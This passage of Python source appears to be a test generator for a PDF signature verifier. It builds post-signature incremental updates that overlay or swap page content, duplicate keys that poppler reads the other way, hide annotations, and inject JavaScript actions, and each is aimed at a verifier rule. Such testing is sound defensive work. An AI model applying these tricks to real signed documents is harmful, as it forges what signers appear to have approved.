def op_prev_chain(ctx, p):
    ctx.layout = "prev_chain"
    ctx.layout_variant = p["decoy"]


def op_hybrid_xrefstm(ctx, p):
    ctx.layout = "hybrid"
    ctx.layout_variant = p["variant"]


def op_objstm_new(ctx, p):
    page = ctx.edit_page("payload")
    if p["change"] == "new_contents":
        page.set(b"Contents", ctx.new_page_content("payload"))
    else:  # a MediaBox showing only the lower-left quarter of the page
        x0, y0, x1, y1 = ctx.base.page_box()
        page.set(b"MediaBox", [x0, y0, x0 + (x1 - x0) / 2, y0 + (y1 - y0) / 2])
    ctx.page_mode = "new_objstm"


def objstm_of(ctx, num):
    e = ctx.base.xref.get(num)
    return e.a if e is not None and e.kind == "c" else None


def op_objstm_rewrite(ctx, p):
    if p["member"] == "page":
        if objstm_of(ctx, ctx.base.page_ref.num) is None:
            raise Skip("the page is not in an object stream")
        if ctx.page_role != "payload":
            ctx.edit_page("payload").set(b"Contents", ctx.new_page_content("payload"))
        ctx.page_mode = "rewrite_objstm"
    else:
        if objstm_of(ctx, ctx.base.root_ref.num) is None:
            raise Skip("the catalog is not in an object stream")
        if ctx.catalog_role != "payload":
            add_javascript(ctx, ctx.edit_catalog("payload"))
            add_attachment(ctx, ctx.catalog, "payload")
        ctx.catalog_mode = "rewrite_objstm"


def op_duplicate_keys(ctx, p):
    page = ctx.edit_page("payload")
    key, first = p["key"].encode(), p["order"] == "new_first"
    x0, y0, x1, y1 = ctx.base.page_box()
    if key == b"Contents":
        if b"Contents" not in page:
            raise Skip("the page has no /Contents")
        # The new stream draws with a font of the page's own resources (they stay unchanged).
        num = ctx.alloc()
        ctx.put(num, make_stream(attack_content((x0, y0, x1, y1), ctx.simple_font_name())), "payload")
        new = Ref(num)
    elif key == b"MediaBox":
        if b"MediaBox" not in page:
            page.set(b"MediaBox", [x0, y0, x1, y1])
        new = [x0, y0, x0 + (x1 - x0) / 2, y0 + (y1 - y0) / 2]
    elif key == b"Rotate":
        if b"Rotate" not in page:
            page.set(b"Rotate", 0)
        new = 90
    else:  # Resources: the page's fonts swapped for Courier
        if b"Resources" not in page:
            page.set(b"Resources", ctx.base.inherited(ctx.base.page, b"Resources") or PDict())
        new = PDict([(Name(b"Font"), PDict([(k, courier()) for k, _ in ctx.base.page_fonts()]))])
    page.add_duplicate(key, new, first=first)
    # Padding past 32 entries: poppler then sorts a dictionary and binary-searches it, and no
    # longer reliably takes the last of two equal keys.
    for i in range(p.get("pad", 0)):
        page.pairs.insert(1, (Name(b"VanbanPad%02d" % i), i))


def courier(base_font=b"Courier"):
    f = HELVETICA.copy()
    f.set(b"BaseFont", Name(base_font))
    return f


def op_generation(ctx, p):
    refs = ctx.base.content_refs()
    if not refs:
        raise Skip("the page has no content stream")
    n = refs[0].num
    if p["variant"] == "gen1":
        data = attack_content(ctx.base.page_box(), ctx.simple_font_name())
        ctx.put(n, make_stream(data), "payload", gen=1)
        page = ctx.edit_page("payload")
        contents = page.get(b"Contents")
        if isinstance(contents, list):
            page.set(b"Contents", [Ref(n, 1)] + [r for r in contents if r != refs[0]])
        else:
            page.set(b"Contents", Ref(n, 1))
        ctx.content_ref = Ref(n, 1)
    elif p["variant"] == "free":
        ctx.free[n] = "payload"
    elif p["target"] == "new":  # the entry points at a new object written under another number
        m = ctx.alloc()
        ctx.put(m, make_stream(attack_content(ctx.base.page_box(), ctx.simple_font_name())), "payload")
        ctx.repoint[n] = (("new", m), "payload")
    else:  # the entry points at another object of the signed revision
        others = [k for k, e in sorted(ctx.base.xref.items()) if e.kind == "n" and k not in (0, n)]
        m = ctx.rng.choice(others)
        ctx.repoint[n] = (("base", ctx.base.xref[m].a), "payload")


def op_acroform_replace(ctx, p):
    cat = ctx.edit_catalog("payload")
    old = ctx.base.resolve(cat.get(b"AcroForm"))
    xfa = ctx.alloc()
    ctx.put(xfa, make_stream(b'<?xml version="1.0"?><xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/">'
                             b'<template><subform><draw><value><text>' + ATTACK_TEXT.encode() +
                             b'</text></value></draw></subform></template></xdp:xdp>'), "payload")
    form = PDict([(Name(b"XFA"), Ref(xfa)), (Name(b"NeedAppearances"), True)])
    if p["keep_fields"] and isinstance(old, PDict):
        for key in (b"Fields", b"SigFlags", b"DR", b"DA"):
            if key in old:
                form.set(key, old.get(key))
    cat.set(b"AcroForm", form)


def op_annotation_add(ctx, p):
    x0, y0, x1, y1 = ctx.base.page_box()
    rect = [x0 + 30, y1 - 260, x1 - 30, y1 - 60]
    ap = ctx.alloc()
    label = p.get("label", "none")
    ctx.put(ap, relabel(appearance_form(rect[2] - rect[0], rect[3] - rect[1]), label), "payload")
    annot = ctx.alloc()
    d = PDict([(Name(b"Type"), Name(b"Annot")), (Name(b"Subtype"), Name(p["subtype"].encode())),
               (Name(b"Rect"), rect), (Name(b"F"), 4), (Name(b"P"), ctx.base.page_ref),
               (Name(b"Contents"), pdf_string(ATTACK_TEXT)),
               (Name(b"AP"), PDict([(Name(b"N"), Ref(ap))]))])
    if p["subtype"] == "FreeText":
        d.set(b"DA", pdf_string("/Helv 30 Tf 1 0 0 rg"))
    else:
        d.set(b"Name", Name(b"Approved"))
    ctx.put(annot, relabel(d, label), "payload")
    annots = ctx.base.page.get(b"Annots")
    if isinstance(annots, Ref) and p["where"] == "indirect":
        old = ctx.base.resolve(annots) or []
        ctx.put(annots.num, list(old) + [Ref(annot)], "payload", annots.gen)
        return
    old = list(ctx.base.resolve(annots) or [])
    page = ctx.edit_page("payload")
    if p["where"] == "indirect":
        arr = ctx.alloc()
        ctx.put(arr, old + [Ref(annot)], "payload")
        page.set(b"Annots", Ref(arr))
    else:
        page.set(b"Annots", old + [Ref(annot)])


def op_info_rewrite(ctx, p):
    info = ctx.base.resolve(ctx.base.info_ref)
    d = info.copy() if isinstance(info, PDict) else PDict()
    d.set(b"Title", pdf_string("Revised title %d" % ctx.rng.randrange(1000)))
    d.set(b"ModDate", pdf_string("D:20250701000000Z"))
    if p["mode"] == "redefine" and isinstance(ctx.base.info_ref, Ref):
        ctx.put(ctx.base.info_ref.num, d, "cover", ctx.base.info_ref.gen)
    else:
        num = ctx.alloc()
        ctx.put(num, d, "cover")
        if ctx.info == "base":
            ctx.info = Ref(num)


XMP = (b'<?xpacket begin="\xef\xbb\xbf" id="W5M0MpCehiHzreSzNTczkc9d"?>\n'
       b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
       b'<rdf:Description rdf:about="" xmlns:dc="http://purl.org/dc/elements/1.1/">'
       b'<dc:title><rdf:Alt><rdf:li xml:lang="x-default">%s</rdf:li></rdf:Alt></dc:title>'
       b'</rdf:Description></rdf:RDF></x:xmpmeta>\n<?xpacket end="w"?>')


def op_metadata_rewrite(ctx, p):
    meta = ctx.base.catalog.get(b"Metadata")
    stream = make_stream(XMP % b"Revised metadata", [(Name(b"Type"), Name(b"Metadata")),
                                                     (Name(b"Subtype"), Name(b"XML"))])
    if isinstance(meta, Ref) and p["mode"] == "redefine":
        ctx.put(meta.num, stream, "cover", meta.gen)
    else:
        num = ctx.alloc()
        ctx.put(num, stream, "cover")
        ctx.edit_catalog("cover").set(b"Metadata", Ref(num))


def touch_candidates(ctx):
    """Objects that re-saving identically cannot collide with another operation's edits."""
    skip = {ctx.base.page_ref.num, ctx.base.root_ref.num} | {r.num for r in ctx.base.content_refs()}
    annots = ctx.base.page.get(b"Annots")
    if isinstance(annots, Ref):
        skip.add(annots.num)
    meta = ctx.base.catalog.get(b"Metadata")
    if isinstance(meta, Ref):
        skip.add(meta.num)
    out = []
    for n, e in sorted(ctx.base.xref.items()):
        if e.kind != "n" or n == 0 or n in skip or n in ctx.objs or n in ctx.base.objstms:
            continue
        obj = ctx.base.resolve(Ref(n))
        if isinstance(obj, Stream) and obj.dict.get(b"Type") == b"XRef":
            continue  # an xref stream of the signed file: re-saving it is not an ordinary save
        out.append(n)
    return out


def op_touch_same(ctx, p):
    num = p["num"]
    e = ctx.base.xref[num]
    ctx.put(num, Raw(ctx.base.raw_body(num)), "cover", e.b)


def op_add_unreferenced(ctx, p):
    for i in range(p["count"]):
        if i % 2:
            ctx.put(ctx.alloc(), make_stream(attack_content(ctx.base.page_box(), None)), "cover")
        else:
            ctx.put(ctx.alloc(), PDict([(Name(b"Note"), pdf_string("unreferenced %d" % i))]), "cover")


def op_fill_dangling(ctx, p):
    """Defines an object the signed revision refers to but lacks, as what its referrer expects
    (an annotation, an XObject, a content stream, a font), optionally with a misleading label.
    listed=False writes it without an xref entry: poppler, missing the object, rebuilds its xref
    by scanning the file and finds it there."""
    num, keys = p["num"], (p["key"] or "").split("/")
    label = p.get("label", "none")
    box = ctx.base.page_box()
    if "Annots" in keys:
        w, h = box[2] - box[0] - 60, 200
        ap = ctx.alloc()
        ctx.put(ap, relabel(appearance_form(w, h), label), "payload")
        obj = PDict([(Name(b"Type"), Name(b"Annot")), (Name(b"Subtype"), Name(b"FreeText")),
                     (Name(b"Rect"), [box[0] + 30, box[3] - 60 - h, box[2] - 30, box[3] - 60]), (Name(b"F"), 4),
                     (Name(b"Contents"), pdf_string(ATTACK_TEXT)), (Name(b"DA"), pdf_string("/Helv 30 Tf 0 g")),
                     (Name(b"AP"), PDict([(Name(b"N"), Ref(ap))]))])
    elif "XObject" in keys:
        obj = appearance_form(box[2] - box[0], box[3] - box[1])
    elif "Contents" in keys:
        obj = make_stream(attack_content(box, ctx.simple_font_name()))
    elif "Font" in keys:
        obj = courier(b"Times-Bold")
    else:
        obj = PDict([(Name(b"Note"), pdf_string(ATTACK_TEXT))])
    ctx.put(num, relabel(obj, label), "payload", listed=p.get("listed", True))


def op_page_resources(ctx, p):
    fonts = ctx.base.page_fonts()
    if not fonts:
        raise Skip("the page has no fonts")
    new_font = p["font"].encode()
    if p["variant"] == "font_object":
        res = ctx.base.inherited(ctx.base.page, b"Resources")
        fdict = res.get(b"Font") if isinstance(res, PDict) else None
        direct = ctx.base.resolve(fdict)
        refs = [v for _, v in direct.pairs if isinstance(v, Ref)] if isinstance(direct, PDict) else []
        if refs:  # redefine the font objects themselves
            for r in refs:
                ctx.put(r.num, courier(new_font), "payload", r.gen)
            return
        if isinstance(fdict, Ref):  # redefine the indirect font dictionary
            ctx.put(fdict.num, PDict([(k, courier(new_font)) for k, _ in fonts]), "payload", fdict.gen)
            return
    res = ctx.base.inherited(ctx.base.page, b"Resources")
    res = res.copy() if isinstance(res, PDict) else PDict()
    res.set(b"Font", PDict([(k, courier(new_font)) for k, _ in fonts]))
    ctx.edit_page("payload").set(b"Resources", res)


# --------------------------------------------------------------------------------------------
# Operations on forms, annotations and the catalog (mostly for the synthetic 'forms' base; see
# synthetic_forms). Each names the rule of src/verify/pdf/diff.rs it probes.
# --------------------------------------------------------------------------------------------


def edit_obj(ctx, num, role):
    """A working copy of object `num` of the base (dictionary or array), written by the update;
    edits of one number by several operations accumulate on the same copy. Nested values are
    shared with the base: set new ones, never mutate them."""
    if num == ctx.base.page_ref.num:
        return ctx.edit_page(role)
    if num == ctx.base.root_ref.num:
        return ctx.edit_catalog(role)
    d = ctx.objs.get(num)
    if d is not None and isinstance(d.obj, (PDict, list)):
        d.role = Ctx._role(d.role, role)
        return d.obj
    # (Another operation's Raw re-save of the same object is replaced by the editable copy.)
    obj = ctx.base.resolve(Ref(num))
    if isinstance(obj, PDict):
        obj = obj.copy()
    elif isinstance(obj, list):
        obj = list(obj)
    else:
        raise Skip("object %d is not a dictionary or an array" % num)
    e = ctx.base.xref.get(num)
    ctx.put(num, obj, role, e.b if e is not None and e.kind == "n" else 0)
    return obj


def base_form(base):
    """(reference or None, dictionary) of the catalog's /AcroForm; (None, None) without one."""
    v = base.catalog.get(b"AcroForm")
    d = base.resolve(v)
    return (v if isinstance(v, Ref) else None, d if isinstance(d, PDict) else None)


def edit_form(ctx, role):
    """The working copy of the form: the indirect AcroForm object, or a copy of the catalog's
    direct one put back into the working catalog."""
    ref, form = base_form(ctx.base)
    if form is None:
        raise Skip("no AcroForm")
    if ref is not None:
        return edit_obj(ctx, ref.num, role)
    cat = ctx.edit_catalog(role)
    if getattr(ctx, "form_copy", None) is None:
        ctx.form_copy = form.copy()
        cat.set(b"AcroForm", ctx.form_copy)
    return ctx.form_copy


def form_fields(base):
    """{field name or '#num': (num, dict)} of every node of the form's field tree (kids by
    their number), read from the base."""
    _, form = base_form(base)
    out, seen = {}, set()

    def walk(ref, depth):
        if not isinstance(ref, Ref) or ref.num in seen or depth > 10:
            return
        seen.add(ref.num)
        d = base.resolve(ref)
        if not isinstance(d, PDict):
            return
        t = d.get(b"T")
        name = t[1:-1].decode("latin-1") if isinstance(t, Raw) and t.startswith(b"(") else "#%d" % ref.num
        out[name] = (ref.num, d)
        for k in base.resolve(d.get(b"Kids")) or []:
            walk(k, depth + 1)

    for f in (base.resolve(form.get(b"Fields")) or []) if form is not None else []:
        walk(f, 0)
    return out


def field(ctx, name):
    f = form_fields(ctx.base).get(name)
    if f is None:
        raise Skip("no field %s" % name)
    return f


def ap_normal_ref(d):
    """The reference of a widget's /AP /N, when it is one stream."""
    ap = d.get(b"AP")
    n = ap.get(b"N") if isinstance(ap, PDict) else None
    return n if isinstance(n, Ref) else None


def attack_ap(width=228, height=30, text=ATTACK_TEXT):
    return form_xobject(b"q 1 0 0 rg 0 0 %s %s re f Q BT /Helv 14 Tf 1 g 2 8 Td %s Tj ET\n"
                        % (fmt_num(width), fmt_num(height), pdf_string(text)), [0, 0, width, height],
                        PDict([(Name(b"Font"), PDict([(Name(b"Helv"), HELVETICA.copy())]))]))


def op_form_fill(ctx, p):
    """Ordinary form filling, allowed at P >= 2 (field_rule): a text field's value with a new
    appearance, a field without an appearance given a value (the viewer draws it), a radio
    group switched. Its display changes by design."""
    v = p["variant"]
    if v == "value_and_ap":
        num, _ = field(ctx, "ref")
        d = edit_obj(ctx, num, "payload")
        d.set(b"V", pdf_string("REF-9"))
        ap = ctx.alloc()
        ctx.put(ap, form_xobject(b"/Tx BMC BT /Helv 12 Tf 0 g 2 10 Td (REF-9) Tj ET EMC\n", [0, 0, 228, 30],
                                 PDict([(Name(b"Font"), PDict([(Name(b"Helv"), HELVETICA.copy())]))])), "payload")
        d.set(b"AP", PDict([(Name(b"N"), Ref(ap))]))
    elif v == "value_no_ap":
        num, _ = field(ctx, "amount")
        edit_obj(ctx, num, "payload").set(b"V", pdf_string("1000000 USD"))
    else:  # radio_switch: the group's value and both kids' states
        num, g = field(ctx, "choice")
        kids = ctx.base.resolve(g.get(b"Kids")) or []
        if len(kids) < 2:
            raise Skip("no radio kids")
        edit_obj(ctx, num, "payload").set(b"V", Name(b"B"))
        edit_obj(ctx, kids[0].num, "payload").set(b"AS", Name(b"Off"))
        edit_obj(ctx, kids[1].num, "payload").set(b"AS", Name(b"B"))


def op_form_appearance(ctx, p):
    """Appearance changes that are more than filling a field: field_rule counts any change of
    /V, /AS, /AP, /MK or /M as 'filled', and a filled field's appearances may then be redrawn
    with anything (Role::Appearance)."""
    v = p["variant"]
    if v == "ap_only":  # the appearance replaced, the value kept
        num, _ = field(ctx, "ref")
        ap = ctx.alloc()
        ctx.put(ap, attack_ap(), "payload")
        edit_obj(ctx, num, "payload").set(b"AP", PDict([(Name(b"N"), Ref(ap))]))
    elif v == "m_touch_rewrite":  # only /M changes; the appearance stream redefined in place
        num, d = field(ctx, "ref")
        apn = ap_normal_ref(d)
        edit_obj(ctx, num, "payload").set(b"M", pdf_string("D:20250701000000Z"))
        ctx.put(apn.num, attack_ap(), "payload", apn.gen)
    elif v == "shared_rewrite":  # field 'name' filled; its stream is also 'name2''s appearance
        num, d = field(ctx, "name")
        apn = ap_normal_ref(d)
        e = edit_obj(ctx, num, "payload")
        e.set(b"V", pdf_string("Mallory"))
        ctx.put(apn.num, attack_ap(text="Mallory"), "payload", apn.gen)
    elif v == "xobject_ap_rewrite":  # 'logo''s appearance is also the page XObject /Logo
        num, d = field(ctx, "logo")
        apn = ap_normal_ref(d)
        edit_obj(ctx, num, "payload").set(b"MK", PDict([(Name(b"CA"), pdf_string("x"))]))
        ctx.put(apn.num, attack_ap(100, 50, "FAKE"), "payload", apn.gen)
    elif v == "ap_existing":  # the appearance now names an existing object: the page XObject
        num, _ = field(ctx, "ref")
        _, logo = field(ctx, "logo")
        edit_obj(ctx, num, "payload").set(b"AP", PDict([(Name(b"N"), ap_normal_ref(logo))]))
    elif v == "as_only":  # a radio kid switched on, the group's value unchanged: two on
        _, g = field(ctx, "choice")
        kids = ctx.base.resolve(g.get(b"Kids")) or []
        edit_obj(ctx, kids[-1].num, "payload").set(b"AS", Name(b"B"))
    else:  # mk_generated: /MK colours of a field whose appearance the viewer generates
        num, _ = field(ctx, "amount")
        edit_obj(ctx, num, "payload").set(b"MK", PDict([(Name(b"BG"), [1, 0, 0]), (Name(b"BC"), [0, 0, 1])]))


def op_acroform_defaults(ctx, p):
    """The form's defaults (Role::AcroForm allows /DA and /DR at P >= 2): they style the
    appearances a viewer generates for fields without one. /NeedAppearances must be refused."""
    form = edit_form(ctx, "payload")
    v = p["variant"]
    if v == "da":
        form.set(b"DA", pdf_string("/Helv 28 Tf 1 0 0 rg"))
    elif v == "dr_font":
        form.set(b"DR", PDict([(Name(b"Font"), PDict([(Name(b"Helv"), courier(b"Courier-Bold"))]))]))
    elif v == "dr_font_object":  # the existing DR font object redefined (role other)
        fonts = ctx.base.resolve(ctx.base.resolve(form.get(b"DR")).get(b"Font")) if isinstance(
            ctx.base.resolve(form.get(b"DR")), PDict) else None
        refs = [r for _, r in fonts.pairs if isinstance(r, Ref)] if isinstance(fonts, PDict) else []
        if not refs:
            raise Skip("no DR font object")
        ctx.put(refs[0].num, courier(b"Courier-Bold"), "payload", refs[0].gen)
    else:  # need_appearances
        form.set(b"NeedAppearances", True)


def op_catalog_add(ctx, p):
    """Catalog keys a viewer acts on (the Catalog rule allows only DSS, Metadata, Extensions,
    Version and a new signature form)."""
    cat = ctx.edit_catalog("payload")
    v = p["variant"]
    js = PDict([(Name(b"S"), Name(b"JavaScript")), (Name(b"JS"), pdf_string("app.alert('replaced');"))])
    if v == "openaction_js":
        cat.set(b"OpenAction", js)
    elif v == "aa_js":
        cat.set(b"AA", PDict([(Name(b"WC"), js)]))
    elif v == "names_js":
        names = ctx.base.resolve(cat.get(b"Names"))
        names = names.copy() if isinstance(names, PDict) else PDict()
        names.set(b"JavaScript", PDict([(Name(b"Names"), [pdf_string("init"), js])]))
        cat.set(b"Names", names)
    elif v == "outlines":
        o, i = ctx.alloc(), ctx.alloc()
        ctx.put(i, PDict([(Name(b"Title"), pdf_string(ATTACK_TEXT)), (Name(b"Parent"), Ref(o)),
                          (Name(b"Dest"), [ctx.base.page_ref, Name(b"Fit")])]), "payload")
        ctx.put(o, PDict([(Name(b"Type"), Name(b"Outlines")), (Name(b"First"), Ref(i)), (Name(b"Last"), Ref(i)),
                          (Name(b"Count"), 1)]), "payload")
        cat.set(b"Outlines", Ref(o))
    elif v == "pagelabels":
        cat.set(b"PageLabels", PDict([(Name(b"Nums"), [0, PDict([(Name(b"P"), pdf_string("Annex-"))])])]))
    elif v == "viewer_prefs":
        cat.set(b"ViewerPreferences", PDict([(Name(b"HideToolbar"), True), (Name(b"PrintArea"), Name(b"ArtBox"))]))
    else:  # oc_off: the signed layer turned off
        ocp = ctx.base.resolve(cat.get(b"OCProperties"))
        if not isinstance(ocp, PDict):
            raise Skip("no optional content")
        ocgs = ctx.base.resolve(ocp.get(b"OCGs")) or []
        cat.set(b"OCProperties", PDict([(Name(b"OCGs"), ocgs),
                                        (Name(b"D"), PDict([(Name(b"OFF"), ocgs), (Name(b"Order"), ocgs)]))]))


def page_annots(base, page_ref):
    page = base.resolve(page_ref)
    return page.get(b"Annots") if isinstance(page, PDict) else None


def non_widget_annots(base):
    out = []
    for pr in base.pages:
        for a in base.resolve(page_annots(base, pr)) or []:
            d = base.resolve(a)
            if isinstance(a, Ref) and isinstance(d, PDict) and d.get(b"Subtype") not in (b"Widget", None):
                out.append((a.num, d))
    return out


def op_annot_existing(ctx, p):
    """An annotation of the signed revision (not a widget) changed: Role::Annot allows nothing;
    its appearance has role other."""
    num, d = non_widget_annots(ctx.base)[0]
    v = p["variant"]
    if v == "rewrite_dict":
        e = edit_obj(ctx, num, "payload")
        e.set(b"Contents", pdf_string(ATTACK_TEXT))
        r = ctx.base.resolve(d.get(b"Rect"))
        e.set(b"Rect", [r[0] - 200, r[1] - 100, r[2], r[3]])
    elif v == "ap_inplace":
        apn = ap_normal_ref(d)
        if apn is None:
            raise Skip("no appearance stream")
        ctx.put(apn.num, attack_ap(200, 40), "payload", apn.gen)
    else:  # ap_replaced
        ap = ctx.alloc()
        ctx.put(ap, attack_ap(200, 40), "payload")
        edit_obj(ctx, num, "payload").set(b"AP", PDict([(Name(b"N"), Ref(ap))]))


def append_annot(ctx, page_ref, annot, where="direct"):
    """Adds `annot` (a number) to a page's /Annots: the indirect array grown, or the page given
    a direct (or a new indirect) array."""
    annots = page_annots(ctx.base, page_ref)
    if isinstance(annots, Ref):
        edit_obj(ctx, annots.num, "payload").append(Ref(annot))
        return
    page = edit_obj(ctx, page_ref.num, "payload")
    old = list(ctx.base.resolve(annots) or [])
    cur = page.get(b"Annots")
    if isinstance(cur, list) and len(cur) > len(old):
        old = list(cur)  # another operation already grew it
    if where == "indirect":
        arr = ctx.alloc()
        ctx.put(arr, old + [Ref(annot)], "payload")
        page.set(b"Annots", Ref(arr))
    else:
        page.set(b"Annots", old + [Ref(annot)])


def page_xobjects(base):
    res = base.inherited(base.page, b"Resources")
    xo = base.resolve(res.get(b"XObject")) if isinstance(res, PDict) else None
    return [(k, v) for k, v in xo.pairs if isinstance(v, Ref) and isinstance(base.resolve(v), Stream)] \
        if isinstance(xo, PDict) else []


def op_annot_tricks(ctx, p):
    """A new annotation (allowed at P = 3, with a warning when visible_rect finds it drawn) whose
    /Rect or /F a viewer reads otherwise, or that carries JavaScript without being drawn."""
    x0, y0, x1, y1 = ctx.base.page_box()
    rect = [x0 + 30, y1 - 260, x1 - 30, y1 - 60]
    v = p["variant"]
    annot = ctx.alloc()
    js = PDict([(Name(b"S"), Name(b"JavaScript")), (Name(b"JS"), pdf_string("app.alert('injected');"))])
    d = PDict([(Name(b"Type"), Name(b"Annot")), (Name(b"Subtype"), Name(b"FreeText")), (Name(b"F"), 4),
               (Name(b"P"), ctx.base.page_ref), (Name(b"Contents"), pdf_string(ATTACK_TEXT)),
               (Name(b"DA"), pdf_string("/Helv 30 Tf 1 0 0 rg"))])
    ap = None
    if v in ("rect_indirect", "rect_null_item", "rect_ref_items", "print_only"):
        ap = ctx.alloc()
        ctx.put(ap, attack_ap(rect[2] - rect[0], rect[3] - rect[1]), "payload")
    if v == "rect_indirect":
        r = ctx.alloc()
        ctx.put(r, rect, "payload")
        d.set(b"Rect", Ref(r))
    elif v == "rect_null_item":  # poppler reads a non-number corner as 0
        d.set(b"Rect", [None] + rect[1:])
    elif v == "rect_ref_items":
        items = []
        for c in rect:
            n = ctx.alloc()
            ctx.put(n, c, "payload")
            items.append(Ref(n))
        d.set(b"Rect", items)
    elif v == "print_only":  # Print | NoView: printed, not shown on screen
        d.set(b"Rect", rect)
        d.set(b"F", 4 | 32)
    elif v == "hidden_link_js":
        d = PDict([(Name(b"Type"), Name(b"Annot")), (Name(b"Subtype"), Name(b"Link")), (Name(b"Rect"), rect),
                   (Name(b"F"), 2), (Name(b"Border"), [0, 0, 0]), (Name(b"A"), js)])
    elif v == "zero_rect_widget_aa":  # a widget of no field, page-open JavaScript
        d = PDict([(Name(b"Type"), Name(b"Annot")), (Name(b"Subtype"), Name(b"Widget")), (Name(b"Rect"), [0, 0, 0, 0]),
                   (Name(b"F"), 4), (Name(b"P"), ctx.base.page_ref), (Name(b"AA"), PDict([(Name(b"PO"), js)]))])
    else:  # existing_xobject_ap: the page's own XObject drawn again elsewhere, hidden
        xos = page_xobjects(ctx.base)
        if not xos:
            raise Skip("the page has no form XObject")
        d.set(b"Rect", rect)
        d.set(b"F", 2)
        ap = xos[0][1].num
        d.set(b"AP", PDict([(Name(b"N"), Ref(ap))]))
    if ap is not None and b"AP" not in d:
        d.set(b"AP", PDict([(Name(b"N"), Ref(ap))]))
    ctx.put(annot, d, "payload")
    append_annot(ctx, ctx.base.page_ref, annot, p.get("where", "direct"))


def pages_without_annots(base):
    return [pr for pr in base.pages if page_annots(base, pr) is None]


def op_annots_new_array(ctx, p):
    """/Annots given to a page that had none (PageNode rule: a new array is a container of
    entries), or a page's /Annots redirected to another page's existing array (refused)."""
    bare = pages_without_annots(ctx.base)
    if not bare:
        raise Skip("every page has /Annots")
    pr = bare[0]
    v = p["variant"]
    page = edit_obj(ctx, pr.num, "payload")
    if v == "redirect":
        arrays = [page_annots(ctx.base, q) for q in ctx.base.pages]
        arrays = [a for a in arrays if isinstance(a, Ref)]
        if not arrays:
            raise Skip("no indirect /Annots to redirect to")
        page.set(b"Annots", arrays[0])
        return
    x0, y0, x1, y1 = ctx.base.page_box()
    rect = [x0 + 30, y1 - 260, x1 - 30, y1 - 60]
    ap, annot = ctx.alloc(), ctx.alloc()
    ctx.put(ap, attack_ap(rect[2] - rect[0], rect[3] - rect[1]), "payload")
    r = rect
    if v.endswith("rect_indirect"):
        r = Ref(ctx.alloc())
        ctx.put(r.num, rect, "payload")
    ctx.put(annot, PDict([(Name(b"Type"), Name(b"Annot")), (Name(b"Subtype"), Name(b"Stamp")), (Name(b"Rect"), r),
                          (Name(b"F"), 4), (Name(b"P"), pr), (Name(b"AP"), PDict([(Name(b"N"), Ref(ap))]))]), "payload")
    if v.startswith("indirect"):
        arr = ctx.alloc()
        ctx.put(arr, [Ref(annot)], "payload")
        page.set(b"Annots", Ref(arr))
    else:
        page.set(b"Annots", [Ref(annot)])


def form_widgets(base):
    """(num, dict) of the form's nodes that are widgets drawn on the first page."""
    on_page = {a.num for a in base.resolve(page_annots(base, base.page_ref)) or [] if isinstance(a, Ref)}
    return [(n, d) for n, d in form_fields(base).values() if d.get(b"Subtype") == b"Widget" and n in on_page]


def op_widget_geometry(ctx, p):
    """A widget moved, or a widget added to an existing field's /Kids (field_rule allows
    neither)."""
    if p["variant"] == "move_rect":
        num, d = form_widgets(ctx.base)[0]
        r = [float(ctx.base.resolve(c)) for c in ctx.base.resolve(d.get(b"Rect"))]
        x0, y0, x1, y1 = ctx.base.page_box()
        if abs(r[2] - r[0]) < 1:  # an invisible signature widget: made big
            r = [x0 + 30, y1 - 260, x1 - 30, y1 - 60]
        else:
            r = [r[0], r[1] + 120, r[2], r[3] + 120]
        edit_obj(ctx, num, "payload").set(b"Rect", r)
        return
    num, g = field(ctx, "choice")
    kid = ctx.alloc()
    ap = ctx.alloc()
    ctx.put(ap, attack_ap(200, 30), "payload")
    ctx.put(kid, PDict([(Name(b"Type"), Name(b"Annot")), (Name(b"Subtype"), Name(b"Widget")), (Name(b"Parent"), Ref(num)),
                        (Name(b"Rect"), [150, 470, 350, 500]), (Name(b"F"), 4), (Name(b"P"), ctx.base.page_ref),
                        (Name(b"AS"), Name(b"C")),
                        (Name(b"AP"), PDict([(Name(b"N"), PDict([(Name(b"C"), Ref(ap))]))]))]), "payload")
    kids = list(ctx.base.resolve(g.get(b"Kids")) or [])
    edit_obj(ctx, num, "payload").set(b"Kids", kids + [Ref(kid)])
    append_annot(ctx, ctx.base.page_ref, kid)


def shared_annots_contents(base):
    """(array number, annotating page) of an indirect /Annots array that is also a page's
    /Contents array: to a viewer its items are content streams, not annotations."""
    contents = {}
    for pr in base.pages:
        c = base.resolve(pr).get(b"Contents")
        if isinstance(c, Ref) and isinstance(base.resolve(c), list):
            contents[c.num] = pr
    for pr in base.pages:
        a = page_annots(base, pr)
        if isinstance(a, Ref) and a.num in contents:
            return a.num, pr
    return None


def op_shared_array(ctx, p):
    """An indirect array that is one page's /Annots and another page's /Contents: Role::AnnotsArray
    is structural, so the walk drops the role other the /Contents reference gives, and the
    AnnotsArray rule lets it gain any new object, judged as an annotation (entry_verdict: no
    /Rect, no warning). A viewer draws it as page content."""
    arr, _ = shared_annots_contents(ctx.base)
    data = attack_content(ctx.base.page_box(), Name(b"F1"))
    stm = make_stream(data, compress=p["compress"])
    if p["variant"] == "with_rect":  # a /Rect in the stream's dictionary: now the warning shows
        stm.dict.set(b"Rect", [30, 500, 565, 800])
    n = ctx.alloc()
    ctx.put(n, stm, "payload")
    edit_obj(ctx, arr, "payload").append(Ref(n))


def op_field_add(ctx, p):
    """A new field in the form's /Fields (not on any page's /Annots) with JavaScript: the entry is
    judged with no page (entry_verdict: never a warning)."""
    js = PDict([(Name(b"S"), Name(b"JavaScript")), (Name(b"JS"), pdf_string("app.alert('injected');"))])
    f = ctx.alloc()
    d = PDict([(Name(b"Type"), Name(b"Annot")), (Name(b"Subtype"), Name(b"Widget")), (Name(b"FT"), Name(b"Tx")),
               (Name(b"T"), pdf_string("calc%d" % f)), (Name(b"Rect"), [0, 0, 0, 0]), (Name(b"F"), 2),
               (Name(b"P"), ctx.base.page_ref)])
    if p["variant"] == "activation":
        d.set(b"A", js)
    else:
        d.set(b"AA", PDict([(Name(b"K"), js), (Name(b"C"), js)]))
    ctx.put(f, d, "payload")
    form = edit_form(ctx, "payload")
    fields = form.get(b"Fields")
    if isinstance(fields, Ref):
        edit_obj(ctx, fields.num, "payload").append(Ref(f))
    else:
        form.set(b"Fields", list(fields or []) + [Ref(f)])


def op_shared_objects(ctx, p):
    """Objects with two roles in the signed revision, one of them lenient: the /Info dictionary
    that is also page 3's /Resources, the XMP stream that is also part of page 3's content. The
    role other they also have must refuse the change."""
    if p["variant"] == "info_font":
